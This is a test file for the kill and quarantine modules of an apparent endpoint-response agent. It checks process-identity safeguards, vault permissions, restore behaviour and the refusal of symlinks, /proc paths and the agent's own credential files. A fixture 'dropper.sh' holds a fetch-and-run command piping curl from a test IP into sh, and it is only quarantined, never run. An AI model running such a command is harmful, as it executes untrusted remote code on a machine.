import { execFileSync, spawn, spawnSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  readFileSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { killModule } from "../../agent/modules/kill/index.js";
import { quarantineModule } from "../../agent/modules/quarantine/index.js";
import { silentLogger } from "../../common/mod.js";
import { KillParams, QuarantineParams } from "../../proto/api.js";
import { tempDir } from "../helpers/fleet.js";

// kill and quarantine on this machine: real processes (checked with ps) and
// real files (checked with sha256sum and stat).

const state = tempDir("dragnet-respond-state-");
const ctx = {
  signal: new AbortController().signal,
  log: silentLogger,
  stateDir: state,
  actionId: "01m8aaaaaaaaaaaaaaaaaaaaaa",
  protectedPaths: [state],
};
const alive = (pid: number) =>
  spawnSync("ps", ["-p", String(pid), "-o", "stat="], { encoding: "utf8" }).stdout.trim();
const sha256sum = (path: string) => execFileSync("sha256sum", [path], { encoding: "utf8" }).split(" ")[0]!;

const children: number[] = [];
afterEach(() => {
  for (const pid of children.splice(0)) spawnSync("kill", ["-9", String(pid)]);
});

function sleeper(): number {
  const child = spawn("sleep", ["60"], { stdio: "ignore" });
  children.push(child.pid!);
  return child.pid!;
}

async function kill(p: Partial<KillParams>) {
  const params = KillParams.fromPartial(p);
  killModule.check(params);
  return (await killModule.run(params, ctx)).result;
}

async function quarantine(p: Partial<QuarantineParams>) {
  const params = QuarantineParams.fromPartial(p);
  quarantineModule.check(params);
  return (await quarantineModule.run(params, ctx)).result;
}

describe("kill", () => {
  it("refuses a process whose name or executable hash is not the expected one, and kills the right one", async () => {
    const pid = sleeper();
    await expect(kill({ pid, expectName: "^nc$" })).rejects.toThrow(
      `process ${pid} is "sleep", which does not match "^nc$": not killed`,
    );
    await expect(kill({ pid, expectExeSha256: "0".repeat(64) })).rejects.toThrow(
      /not the expected one: not killed/,
    );
    expect(alive(pid)).not.toBe("");
    const exe = sha256sum(`/proc/${pid}/exe`);
    const r = await kill({ pid, expectName: "^sleep$", expectExeSha256: exe });
    expect([r.process?.pid, r.process?.name, r.process?.exeSha256, r.signal, r.exited]).toEqual([
      pid,
      "sleep",
      exe,
      "SIGKILL",
      true,
    ]);
    expect(r.process?.cmdline).toBe("sleep 60");
    // Gone, or a zombie waiting for this test to reap it.
    expect(["", "Z"]).toContain(alive(pid).slice(0, 1));
  });

  it("refuses pid 0 and 1, the agent itself, a missing pid and a bad signal", async () => {
    expect(() => killModule.check(KillParams.fromPartial({ pid: 1 }))).toThrow(/pid 1 cannot be killed/);
    expect(() => killModule.check(KillParams.fromPartial({ pid: 5, signal: "HUP" }))).toThrow(
      /signal is KILL or TERM/,
    );
    await expect(kill({ pid: process.pid })).rejects.toThrow(/the agent itself/);
    await expect(kill({ pid: 4_000_000 })).rejects.toThrow(/no process 4000000/);
  });
});

describe("quarantine", () => {
  it("moves a file into the vault without execute bits, records its origin, and restores it as it was", async () => {
    const dir = tempDir("dragnet-q-");
    const file = join(dir, "dropper.sh");
    writeFileSync(file, "#!/bin/sh\ncurl -s http://198.18.0.7/x | sh\n");
    chmodSync(file, 0o755);
    utimesSync(file, new Date(1_700_000_000_000), new Date(1_700_000_000_000));
    const hash = sha256sum(file);
    const q = (await quarantine({ path: file })).files[0]!;
    expect([q.originalPath, q.mode, q.sha256, q.mtimeMs, q.actionId]).toEqual([
      file,
      "-rwxr-xr-x",
      hash,
      1_700_000_000_000,
      ctx.actionId,
    ]);
    expect(existsSync(file)).toBe(false);
    const inVault = join(state, "vault", `${q.id}.bin`);
    expect(statSync(inVault).mode & 0o777).toBe(0o400);
    expect(statSync(join(state, "vault")).mode & 0o777).toBe(0o700);
    expect(sha256sum(inVault)).toBe(hash);
    expect((await quarantine({ mode: "list" })).files.map((f) => f.id)).toContain(q.id);

    // Something new at the old path: restore refuses to overwrite it.
    writeFileSync(file, "new\n");
    await expect(quarantine({ mode: "restore", id: q.id })).rejects.toThrow(/exists again; move it away/);
    execFileSync("rm", [file]);
    const back = (await quarantine({ mode: "restore", id: q.id })).files[0]!;
    expect(back.restored).toBe(true);
    expect(sha256sum(file)).toBe(hash);
    expect(statSync(file).mode & 0o7777).toBe(0o755);
    expect(statSync(file).mtimeMs).toBe(1_700_000_000_000);
    expect((await quarantine({ mode: "list" })).files.map((f) => f.id)).not.toContain(q.id);
    await expect(quarantine({ mode: "restore", id: q.id })).rejects.toThrow(/no vault item/);
  });

  it("refuses symlinks, pseudo-files, directories and the agent's own files", async () => {
    const dir = tempDir("dragnet-q-");
    symlinkSync("/etc/passwd", join(dir, "link"));
    await expect(quarantine({ path: join(dir, "link") })).rejects.toThrow(
      /is a symlink \(to \/etc\/passwd\); it is not followed/,
    );
    await expect(quarantine({ path: "/proc/self/status" })).rejects.toThrow(/is in proc/);
    await expect(quarantine({ path: dir })).rejects.toThrow(/is not a regular file/);
    writeFileSync(join(state, "agent.creds"), "secret");
    await expect(quarantine({ path: join(state, "agent.creds") })).rejects.toThrow(
      /one of the agent's own files/,
    );
    expect(readFileSync(join(state, "agent.creds"), "utf8")).toBe("secret");
    // Through a directory that links to the agent's own (only the last component was checked once).
    symlinkSync(state, join(dir, "linkdir"));
    await expect(quarantine({ path: join(dir, "linkdir", "agent.creds") })).rejects.toThrow(
      /one of the agent's own files/,
    );
    // And into /proc through a linked directory.
    symlinkSync("/proc/self", join(dir, "procdir"));
    await expect(quarantine({ path: join(dir, "procdir", "status") })).rejects.toThrow(/is in proc/);
    expect(readFileSync(join(state, "agent.creds"), "utf8")).toBe("secret");
    expect(() => quarantineModule.check(QuarantineParams.fromPartial({ path: "relative" }))).toThrow(
      /not an absolute path/,
    );
  });
});
